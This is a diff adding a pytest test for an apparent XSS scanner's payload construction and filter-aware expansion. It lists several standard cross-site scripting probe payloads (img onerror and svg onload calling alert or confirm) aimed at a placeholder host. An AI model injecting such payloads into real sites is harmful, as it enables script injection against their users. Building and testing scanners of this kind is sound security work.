@@ -0,0 +1,52 @@
+from multi_injection import BatchLog
+from payload_classes import ExpansionLog
+from payload_compiler import compile_payloads
+from payload_constructor import PayloadConstructor
+from payload_stats import PayloadStats
+from validated_lines import format_validated_line, parse_validated_line
+
+# One equivalence class whose members need quotes, backticks or a slash on top of <>()=
+PAYLOADS = [
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert`1`>",
+    '<img src="x" onerror="alert(1)">',
+    "<img src='x' onerror='alert(1)'>",
+    "<img src=x onerror=confirm(1)>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert`1`>",
+    '<svg onload="alert(1)">',
+]
+SURVIVING = "<>()="
+
+
+def test_expand_output_never_needs_a_filtered_char(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    entries, _ = compile_payloads(PAYLOADS)
+    constructor = PayloadConstructor(entries)
+    validated = [
+        # Two reflected params of one URL go out as a multi-injection line
+        format_validated_line("http://h/p?a=MARK1&b=x", "a", context="html_text", chars=SURVIVING),
+        format_validated_line("http://h/p?a=x&b=MARK2", "b", context="html_text", chars=SURVIVING),
+        format_validated_line("http://h/q?c=MARK3", "c", context="html_text", chars=SURVIVING),
+    ]
+    first_round = list(constructor.construct_urls(validated))
+    assert any("batch=" in line for line in first_round)
+
+    # A runner on which every representative loads without an alert
+    expansion_log = ExpansionLog(path=str(tmp_path / "expand_classes.txt"))
+    batch_log = BatchLog(None, PayloadStats(), expansion_log)
+    for line in first_round:
+        url, param, meta = parse_validated_line(line)
+        batch_log.track(url, meta)
+        expansion_log.track(url, param, meta)
+        batch_log.miss(url)
+        expansion_log.record(url, False)
+    assert expansion_log.save() == 3
+
+    expanded = list(constructor.second_round(expand_file=expansion_log.path,
+                                             fallback_file=str(tmp_path / "no_fallbacks.txt")))
+    assert expanded
+    for line in expanded:
+        _, _, meta = parse_validated_line(line)
+        assert meta["chars"] == SURVIVING
+        assert constructor.by_id[meta["pid"]].chars <= set(SURVIVING), line